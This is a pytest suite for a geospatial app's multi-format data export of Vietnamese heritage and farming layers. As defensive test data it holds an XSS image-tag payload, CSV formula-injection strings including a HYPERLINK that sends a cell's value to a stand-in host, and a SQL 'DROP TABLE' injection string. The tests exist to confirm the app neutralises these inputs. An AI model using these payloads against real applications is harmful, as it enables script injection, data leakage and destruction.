"""Exports: every format written by the app and read back with GDAL (pyogrio)."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import geopandas as gpd
import pyogrio
import pytest
import shapely
from sqlalchemy import text

from layers import REGISTRY
from tests.importing import do_import

FORMATS = ("gpkg", "shp", "kml", "csv", "geojson")
HOSTILE = '<img src=x onerror="alert(1)">Đình <b>Hành Thiện</b>'


def download(client, url: str, tmp_path, name: str):
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    path = tmp_path / name
    path.write_bytes(response.data)
    return response, path


def read_back(path, fmt: str, layer: str | None = None):
    """The exported file as GDAL reads it: one GeoDataFrame."""
    if fmt == "shp":
        archive = f"/vsizip/{path}"
        names = [name for name, _ in pyogrio.list_layers(archive)]
        name = layer or names[0]
        return pyogrio.read_dataframe(archive, layer=name)
    if fmt == "csv":
        return pyogrio.read_dataframe(path, open_options=["GEOM_POSSIBLE_NAMES=wkt", "KEEP_GEOM_COLUMNS=NO"])
    return pyogrio.read_dataframe(path, layer=layer)


def database_rows(conn, layer_id: str, where: str = "true", params: dict | None = None) -> dict:
    rows = conn.execute(
        text(f"SELECT id, name, ST_AsBinary(geom) AS wkb FROM {layer_id} WHERE {where} ORDER BY id"), params or {}
    )
    return {r.id: (r.name, shapely.from_wkb(bytes(r.wkb))) for r in rows}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("layer_id", ["relics", "farming_zones"])
def test_every_format_reads_back_with_the_same_features(client, engine, tmp_path, fmt, layer_id):
    extension = "zip" if fmt == "shp" else fmt
    response, path = download(client, f"/export/{layer_id}?format={fmt}", tmp_path, f"out.{extension}")
    assert "attachment" in response.headers["Content-Disposition"]
    frame = read_back(path, fmt)
    with engine.connect() as conn:
        expected = database_rows(conn, layer_id)
    assert len(frame) == len(expected) > 0
    names = frame["Name" if fmt == "kml" else "name"].tolist()
    assert sorted(names) == sorted(name for name, _ in expected.values())
    # Vietnamese diacritics survive every format.
    assert any("ư" in n or "ơ" in n or "Đ" in n for n in names)
    if fmt != "kml":
        by_id = dict(zip(frame["id"].astype(int), frame.geometry, strict=True))
        assert set(by_id) == set(expected)
        for feature_id, (_, geom) in expected.items():
            assert shapely.equals_exact(shapely.normalize(by_id[feature_id]), shapely.normalize(geom), tolerance=1e-7) or (
                by_id[feature_id].symmetric_difference(geom).area < 1e-12
            ), feature_id
    else:
        for geom in frame.geometry:
            assert any(geom.equals_exact(g, 1e-7) or geom.symmetric_difference(g).area < 1e-12 for _, g in expected.values())


def test_filtered_export_holds_exactly_the_filtered_features(client, engine, tmp_path):
    with engine.connect() as conn:
        district = conn.execute(text("SELECT district FROM relics GROUP BY district ORDER BY count(*) DESC LIMIT 1")).scalar_one()
        expected = database_rows(conn, "relics", "district = :d AND rank IN ('national', 'special_national')", {"d": district})
    assert expected
    _, path = download(client, f"/export/relics?format=gpkg&district={district}&rank=national,special_national", tmp_path, "f.gpkg")
    frame = pyogrio.read_dataframe(path)
    assert sorted(frame["id"].astype(int)) == sorted(expected)


def test_bbox_and_text_filters_match_the_items_endpoint(client, tmp_path):
    query = "bbox=106.0,20.1,106.4,20.5&q=chua"
    items = client.get(f"/ogc/collections/relics/items?{query}&limit=1000").get_json()
    _, path = download(client, f"/export/relics?format=geojson&{query}", tmp_path, "f.geojson")
    frame = pyogrio.read_dataframe(path)
    assert sorted(frame["id"].astype(int)) == sorted(f["id"] for f in items["features"])
    assert 0 < len(frame) < items_count(client, "relics")


def items_count(client, layer_id: str) -> int:
    return client.get(f"/ogc/collections/{layer_id}/items?limit=1").get_json()["numberMatched"]


def test_several_layers_in_one_geopackage_with_per_layer_filters(client, engine, tmp_path):
    _, path = download(
        client, "/export?format=gpkg&layers=relics,craft_villages,farming_zones&relics.rank=national", tmp_path, "all.gpkg"
    )
    layers = dict(pyogrio.list_layers(path))
    assert set(layers) == {"relics", "craft_villages", "farming_zones"}
    with engine.connect() as conn:
        national = conn.execute(text("SELECT count(*) FROM relics WHERE rank = 'national'")).scalar_one()
        villages = conn.execute(text("SELECT count(*) FROM craft_villages")).scalar_one()
    assert len(pyogrio.read_dataframe(path, layer="relics")) == national
    assert len(pyogrio.read_dataframe(path, layer="craft_villages")) == villages
    info = pyogrio.read_info(path, layer="relics")
    assert info["crs"] == "EPSG:4326"
    metadata = pyogrio.read_info(path)["dataset_metadata"] or {}
    assert "Licences" in metadata.get("ABSTRACT", "") and "OpenStreetMap" in metadata["ABSTRACT"]


def test_an_export_takes_every_match_unless_a_limit_is_given(client, engine, tmp_path):
    # More relics than the items endpoint's default page of 100.
    with engine.begin() as conn:
        made = conn.execute(
            text(
                "INSERT INTO relics (name, kind, rank, geom) SELECT 'Bulk ' || n, 'other', 'unranked', "
                "ST_SetSRID(ST_MakePoint(106.0 + n * 0.004, 20.3), 4326) FROM generate_series(1, 100) AS n RETURNING id"
            )
        ).scalars().all()
    try:
        with engine.connect() as conn:
            relic_ids = sorted(database_rows(conn, "relics"))
        assert len(relic_ids) > 100
        _, path = download(client, "/export/relics?format=geojson", tmp_path, "all.geojson")
        assert sorted(pyogrio.read_dataframe(path)["id"].astype(int)) == relic_ids
        _, path = download(client, "/export/relics?format=geojson&limit=3", tmp_path, "three.geojson")
        assert sorted(pyogrio.read_dataframe(path)["id"].astype(int)) == relic_ids[:3]
        _, path = download(client, "/export/relics?format=geojson&limit=2&offset=3", tmp_path, "paged.geojson")
        assert sorted(pyogrio.read_dataframe(path)["id"].astype(int)) == relic_ids[3:5]
    finally:
        with engine.begin() as conn:
            conn.execute(text("DELETE FROM relics WHERE id = ANY(:ids)"), {"ids": made})


def test_a_layer_limit_in_a_multi_layer_export_limits_that_layer_only(client, engine, tmp_path):
    _, path = download(client, "/export?format=gpkg&layers=relics,craft_villages&relics.limit=2", tmp_path, "two.gpkg")
    with engine.connect() as conn:
        relic_ids = sorted(database_rows(conn, "relics"))
        villages = conn.execute(text("SELECT count(*) FROM craft_villages")).scalar_one()
    assert villages > 2
    assert sorted(pyogrio.read_dataframe(path, layer="relics")["id"].astype(int)) == relic_ids[:2]
    assert len(pyogrio.read_dataframe(path, layer="craft_villages")) == villages
    _, path = download(client, "/export?format=gpkg&layers=relics,craft_villages&relics.limit=2&relics.offset=1",
                       tmp_path, "paged.gpkg")
    assert sorted(pyogrio.read_dataframe(path, layer="relics")["id"].astype(int)) == relic_ids[1:3]
    assert len(pyogrio.read_dataframe(path, layer="craft_villages")) == villages


@pytest.mark.parametrize(
    "url, name",
    [("/export/relics?offset=5", "offset"), ("/export?layers=relics,craft_villages&relics.offset=5", "offset")],
)
def test_an_offset_without_a_limit_is_refused_not_dropped(client, url, name):
    response = client.get(url)
    assert response.status_code == 400
    assert response.get_json()["description"].startswith(f"{name}: needs a limit")


def test_default_multi_layer_export_has_every_map_layer(client, tmp_path):
    _, path = download(client, "/export?format=gpkg", tmp_path, "default.gpkg")
    names = {name for name, _ in pyogrio.list_layers(path)}
    assert names == {layer.id for layer in REGISTRY.values() if layer.visible}


def test_shapefile_zip_has_prj_cpg_short_unique_names_and_notes(client, tmp_path):
    _, path = download(client, "/export/farming_zones?format=shp", tmp_path, "zones.zip")
    archive = zipfile.ZipFile(path)
    names = archive.namelist()
    for ext in (".shp", ".shx", ".dbf", ".prj", ".cpg"):
        assert f"farming_zones{ext}" in names
    assert archive.read("farming_zones.cpg").decode().strip().upper().replace("-", "") == "UTF8"
    assert "WGS" in archive.read("farming_zones.prj").decode()
    frame = read_back(path, "shp")
    columns = [c for c in frame.columns if c != "geometry"]
    assert all(len(c) <= 10 for c in columns)
    assert len({c.lower() for c in columns}) == len(columns)
    # Every declared field is in the file, under the name the note gives it.
    note = archive.read("fields.txt").decode()
    mapping = dict(
        (line.split("=")[1].split()[0], line.split("=")[0].strip()) for line in note.splitlines() if line.startswith("  ")
    )
    for f in REGISTRY["farming_zones"].fields:
        assert mapping[f.name] in columns
    assert mapping["certification"] != mapping["name"]
    assert "Licences" in archive.read("metadata.txt").decode()


def test_mixed_geometry_layer_is_split_into_one_shapefile_per_kind(client, committed, tmp_path):
    committed(
        "craft_villages", "name, craft, geom",
        "'Làng thử nghiệm', 'weaving', ST_Multi(ST_Buffer(ST_SetSRID(ST_MakePoint(106.18, 20.42), 4326), 0.002, 8))",
    )
    _, path = download(client, "/export/craft_villages?format=shp", tmp_path, "villages.zip")
    layers = dict(pyogrio.list_layers(f"/vsizip/{path}"))
    # A Shapefile does not tell polygons from multipolygons.
    assert layers == {"craft_villages_points": "Point", "craft_villages_polygons": "Polygon"}
    polygons = pyogrio.read_dataframe(f"/vsizip/{path}", layer="craft_villages_polygons")
    assert polygons["name"].tolist() == ["Làng thử nghiệm"]


def test_kml_names_and_descriptions_are_readable_and_html_stays_text(client, committed, tmp_path):
    committed("relics", "name, kind, rank, geom", ":name, 'temple', 'provincial', ST_SetSRID(ST_MakePoint(106.17, 20.43), 4326)",
              {"name": HOSTILE})
    _, path = download(client, "/export/relics?format=kml&kind=temple&rank=provincial", tmp_path, "r.kml")
    raw = path.read_text(encoding="utf-8")
    assert "<img" not in raw and "<b>" not in raw  # the markup arrives escaped, never as live tags
    frame = pyogrio.read_dataframe(path)
    row = frame[frame["Name"] == HOSTILE]
    assert len(row) == 1
    description = row.iloc[0]["Description"]
    # Google Earth renders the description as HTML: labels in a table, the value escaped inside it.
    assert "<th>Loại hình</th><td>Đền</td>" in description
    assert "&lt;img src=x" in description and "<img" not in description
    assert "<description>" in raw.split("<Placemark", 1)[0]  # the document carries the export's metadata


def test_csv_has_bom_wkt_or_lonlat_and_vietnamese_text(client, engine, tmp_path):
    response = client.get("/export/relics?format=csv")
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert response.mimetype == "text/csv"
    header = response.data[3:].split(b"\n", 1)[0].decode()
    assert header.endswith('"wkt"')
    response = client.get("/export/relics?format=csv&geometry=lonlat")
    body = response.data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    with engine.connect() as conn:
        points = {r.id: (r.x, r.y, r.name) for r in conn.execute(text("SELECT id, ST_X(geom) x, ST_Y(geom) y, name FROM relics"))}
    assert len(rows) == len(points)
    for row in rows:
        x, y, name = points[int(row["id"])]
        assert abs(float(row["longitude"]) - x) < 1e-9 and abs(float(row["latitude"]) - y) < 1e-9
        assert row["name"] == name


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1;"Đền")', "+84 912 000 000", "-", "@SUM(1)"]


def test_csv_text_that_a_spreadsheet_would_run_is_marked_as_text_and_reimports_as_it_was(client, committed, conn, tmp_path):
    ids = {
        committed("relics", "name, kind, rank, decision, geom",
                  ":name, 'temple', 'provincial', :decision, ST_SetSRID(ST_MakePoint(106.17, 20.43), 4326)",
                  {"name": name, "decision": decision}): name
        # Tabs and returns lead only the decisions: names are trimmed on import, so they would not come back.
        for name, decision in zip([*FORMULAS, "Đền = Trần"], ["\tcmd", "\rcmd", "QĐ 1", None, "- 2"], strict=True)
    }
    _, path = download(client, "/export/relics?format=csv", tmp_path, "relics.csv")
    with path.open(encoding="utf-8-sig", newline="") as file:  # newline="": a "\r" inside a value stays itself
        rows = {int(r["id"]): r for r in csv.DictReader(file)}
    for feature_id, name in ids.items():
        assert rows[feature_id]["name"] == (name if name == "Đền = Trần" else "'" + name)
        assert rows[feature_id]["wkt"].startswith("POINT")
    assert [rows[i]["decision"] for i in ids] == ["'\tcmd", "'\rcmd", "QĐ 1", "", "'- 2"]

    before = conn.execute(text("SELECT max(id) FROM relics")).scalar_one()
    report = do_import(conn, "relics", path)
    assert report.committed and report.rejected == []
    imported = conn.execute(text("SELECT name FROM relics WHERE id > :b AND name = ANY(:n)"), {"b": before, "n": list(ids.values())})
    assert sorted(imported.scalars()) == sorted(ids.values())


def test_only_csv_files_have_their_formula_marks_dropped(conn, tmp_path):
    """Other formats carry no such mark: an apostrophe in them is the data's own."""
    marked = "'=1+1"
    frame = gpd.GeoDataFrame({"name": [marked], "kind": ["temple"], "rank": ["unranked"]},
                             geometry=[shapely.Point(106.17, 20.43)], crs=4326)
    pyogrio.write_dataframe(frame, tmp_path / "dau.geojson")
    frame.assign(wkt=frame.geometry.to_wkt()).drop(columns="geometry").to_csv(tmp_path / "dau.csv", index=False)
    for name, stored in (("dau.geojson", marked), ("dau.csv", "=1+1")):
        before = conn.execute(text("SELECT max(id) FROM relics")).scalar_one()
        assert do_import(conn, "relics", tmp_path / name).committed
        assert conn.execute(text("SELECT name FROM relics WHERE id > :b"), {"b": before}).scalar_one() == stored


def test_geojson_is_rfc7946_with_metadata(client, tmp_path):
    response, path = download(client, "/export/relics?format=geojson", tmp_path, "r.geojson")
    document = json.loads(response.data)
    assert document["type"] == "FeatureCollection"
    assert "crs" not in document  # RFC 7946: WGS 84 longitude/latitude, no crs member
    assert "Licences" in document["description"] and "Exported" in document["description"]


@pytest.mark.parametrize(
    "url, status",
    [
        ("/export/relics?format=docx", 400),
        ("/export/relics?rank=imperial", 400),
        ("/export/relics?crop=rice", 400),
        ("/export/relics?format=gpkg&geometry=lonlat", 400),
        ("/export/relics?bbox=1,2,3", 400),
        ("/export/nowhere", 404),
        ("/export?format=kml&layers=relics,craft_villages", 400),
        ("/export?format=gpkg&layers=relics,nowhere", 400),
        ("/export?format=gpkg&layers=relics&nowhere.kind=temple", 400),
        ("/export?format=gpkg&layers=relics&relics.kind=temple&relics.kind=pagoda", 400),
    ],
)
def test_bad_export_requests_get_clear_errors(client, url, status):
    response = client.get(url)
    assert response.status_code == status
    assert response.get_json()["description"]


@pytest.mark.parametrize("name", ["q", "district", "relics.district"])
def test_sql_in_a_filter_that_reaches_the_database_is_only_a_value(client, engine, name):
    url = f"/export?layers=relics&format=geojson&{name}=x%27)%3B%20DROP%20TABLE%20relics%3B%20--"
    response = client.get(url)
    assert response.status_code == 200
    assert json.loads(response.data)["features"] == []
    with engine.connect() as conn:
        assert conn.execute(text("SELECT to_regclass('public.relics') IS NOT NULL")).scalar_one()
        count = conn.execute(text("SELECT count(*) FROM relics")).scalar_one()
    assert len(json.loads(client.get("/export/relics?format=geojson").data)["features"]) == count > 0


def test_unreadable_layers_are_not_exported_to_anonymous_users(client, private_relics, make_user, app):
    from tests.conftest import signed_in

    assert client.get("/export/relics").status_code == 404
    assert client.get("/export?layers=relics").status_code == 400
    assert "relics" not in {name for name, _ in pyogrio.list_layers(io.BytesIO(client.get("/export?format=gpkg").data))}
    viewer = signed_in(app, make_user("export-viewer", "viewer"))
    assert viewer.get("/export/relics").status_code == 200


def test_spooled_files_are_removed_once_sent(app, tmp_path):
    app.config["EXPORT_DIR"] = str(tmp_path)
    try:
        client = app.test_client()
        response = client.get("/export/farming_zones?format=shp")
        assert response.status_code == 200 and int(response.headers["Content-Length"]) == len(response.data) > 1000
        assert zipfile.ZipFile(io.BytesIO(response.data)).testzip() is None
        assert list(tmp_path.iterdir()) == []
    finally:
        app.config["EXPORT_DIR"] = None


def test_export_page_lists_layers_formats_and_filters(client):
    english = client.get("/export?lang=en")  # the language switch: still the page, not a download
    assert english.mimetype == "text/html" and "Export data" in english.get_data(as_text=True)
    page = client.get("/export").get_data(as_text=True)
    for layer in REGISTRY.values():
        assert f'value="{layer.id}"' in page
    for fmt in FORMATS:
        assert f'value="{fmt}"' in page
    assert 'name="farming_zones.crop"' in page


def test_command_line_export_writes_the_filtered_file(app, engine, tmp_path):
    runner = app.test_cli_runner()
    out = tmp_path / "national.gpkg"
    result = runner.invoke(args=["export", "relics,craft_villages", str(out), "--filter", "relics.rank=national"])
    assert result.exit_code == 0, result.output
    with engine.connect() as conn:
        national = conn.execute(text("SELECT count(*) FROM relics WHERE rank = 'national'")).scalar_one()
    assert len(pyogrio.read_dataframe(out, layer="relics")) == national
    bad = runner.invoke(args=["export", "relics", str(tmp_path / "x.kml"), "--filter", "rank=imperial"])
    assert bad.exit_code != 0 and "rank" in bad.output
    assert not (tmp_path / "x.kml").exists()


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["relics,nowhere", "x.gpkg"], "layers: unknown layer 'nowhere'"),
        ([",", "x.gpkg"], "layers: name at least one layer"),
        (["", "x.csv"], "layers: name at least one layer"),
        (["relics,craft_villages", "x.kml"], "format: kml holds one layer"),
        (["relics", "x.gpkg", "--filter", "relics.rank"], "'relics.rank': expected NAME=VALUE"),
    ],
)
def test_command_line_export_refuses_what_the_endpoint_refuses(app, tmp_path, args, said):
    layer_ids, name, *options = args
    result = app.test_cli_runner().invoke(args=["export", layer_ids, str(tmp_path / name), *options])
    assert result.exit_code != 0 and said in result.output
    assert not (tmp_path / name).exists()
